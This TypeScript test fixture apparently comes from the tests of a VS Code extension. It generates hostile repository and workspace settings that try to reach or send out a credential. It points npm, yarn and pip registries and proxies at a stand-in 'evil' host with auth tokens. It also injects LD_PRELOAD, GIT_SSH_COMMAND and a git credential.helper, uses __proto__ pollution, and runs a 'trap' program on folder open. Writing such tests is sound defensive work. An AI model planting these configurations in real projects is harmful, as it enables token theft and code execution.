/**
 * Repositories that want what is not theirs. Each tries one way by which a folder could reach a credential or send
 * it elsewhere; `HOSTILE_WORKSPACE` tries those that only a whole workspace's settings can. `evil` is an address
 * that must never hear anything, `trap` a program that must never run.
 */

/** Files of a folder by their path in it. */
type Files = Readonly<Record<string, string>>

export interface Bait {
  /** `http://127.0.0.1:PORT` */
  readonly evil: string
  /** Absolute path. */
  readonly trap: string
  /** A connection that is signed in and whose tools read `variable`. */
  readonly connection: string
  readonly variable: string
}

const settings = (values: object): Files => ({ '.vscode/settings.json': JSON.stringify(values) })

const asking = (variables: object): Files => settings({ 'fob.terminal.env': variables })

export function hostileRepositories({ evil, trap, connection, variable }: Bait): Record<string, Files> {
  const task = { label: 'a', type: 'shell', command: `${trap} task`, runOptions: { runOn: 'folderOpen' } }
  const env = { FOB_SOCKET: '/tmp/evil.sock', FOB_TERMINAL_ENV: `${variable}=${connection}` }
  const asLines = Object.entries(env).map((pair) => pair.join('='))
  return {
    proxy: asking({ HTTPS_PROXY: connection, http_proxy: connection, ALL_PROXY: connection }),
    npm: {
      ...asking({ NPM_TOKEN: connection }),
      '.npmrc': `registry=${evil}\n//${evil.slice(7)}/:_authToken=\${NPM_TOKEN}\n`,
    },
    yarn: { ...asking({ YARN_NPM_AUTH_TOKEN: connection }), '.yarnrc.yml': `npmRegistryServer: "${evil}"\n` },
    pip: { ...asking({ PIP_INDEX_URL: connection }), 'pip.conf': `[global]\nindex-url = ${evil}\n` },
    host: asking({ GITLAB_HOST: connection, GITLAB_URI: connection, CI_SERVER_URL: connection }),
    aws: asking({ AWS_ENDPOINT_URL: connection, AWS_SESSION_TOKEN: connection }),
    loader: asking({ LD_PRELOAD: connection, NODE_OPTIONS: connection, BASH_ENV: connection }),
    path: asking({ PATH: connection, HOME: connection, SHELL: connection }),
    gitProgram: asking({
      GIT_SSH_COMMAND: connection,
      GIT_ASKPASS: connection,
      GIT_CONFIG_COUNT: connection,
    }),
    ours: asking({ FOB_SOCKET: connection, FOB_HOME: connection, FOB_TERMINAL_ENV: connection }),
    otherTools: asking({ GH_TOKEN: connection, GOOGLE_OAUTH_ACCESS_TOKEN: connection }),
    twoInOne: asking({ X_TOKEN: `${connection},${variable}=${connection}` }),
    climbing: asking({ [variable]: `../${connection}` }),
    nobody: asking({ [variable]: 'nobody' }),
    shapes: settings({ 'fob.terminal.env': [`${variable}=${connection}`] }),
    prototype: {
      '.vscode/settings.json': `{"fob.terminal.env": {"__proto__": {"${variable}": "${connection}"}}}`,
    },
    broken: { '.vscode/settings.json': `{"fob.terminal.env": {"${variable}": "${connection}"` },
    notAllowed: asking({ [variable]: connection }),
    git: settings({ 'fob.terminal.git': [connection], 'git.path': trap }),
    machine: settings({
      'fob.daemon.nodePath': trap,
      'fob.daemon.startAutomatically': false,
      'fob.signIn.method': 'device',
      'fob.extensions.mayAsk': true,
    }),
    dotenv: {
      '.env': `${asLines.join('\n')}\n`,
      ...settings({ 'python.envFile': '${workspaceFolder}/.env' }),
    },
    envrc: { '.envrc': asLines.map((line) => `export ${line}\n`).join('') },
    tasks: { '.vscode/tasks.json': JSON.stringify({ version: '2.0.0', options: { env }, tasks: [task] }) },
    launch: {
      '.vscode/launch.json': JSON.stringify({ version: '0.2.0', configurations: [{ name: 'a', env }] }),
    },
    devcontainer: {
      '.devcontainer/devcontainer.json': JSON.stringify({
        remoteEnv: env,
        initializeCommand: `${trap} devcontainer`,
        customizations: { vscode: { settings: { 'fob.terminal.env': { [variable]: connection } } } },
      }),
    },
    fobJson: {
      'fob.json': JSON.stringify({
        network: { proxy: evil },
        delivery: { git: [{ host: evil.slice(7), connection }], env: { [variable]: connection } },
      }),
    },
  }
}

/** Settings that only count for a whole workspace. */
export function hostileWorkspaceSettings({ evil, trap, connection, variable }: Bait): object {
  return {
    'fob.terminal.env': { HTTPS_PROXY: connection },
    'fob.terminal.git': [connection],
    'fob.daemon.nodePath': trap,
    'http.proxy': evil,
    'terminal.integrated.env.linux': {
      FOB_SOCKET: '/tmp/evil.sock',
      FOB_TERMINAL_ENV: `${variable}=${connection}`,
      GIT_CONFIG_COUNT: '2',
      GIT_CONFIG_KEY_0: 'credential.helper',
      GIT_CONFIG_VALUE_0: `!${trap} git`,
      GIT_CONFIG_KEY_1: 'http.proxy',
      GIT_CONFIG_VALUE_1: evil,
      XDG_DATA_DIRS: '/tmp/evil',
    },
  }
}
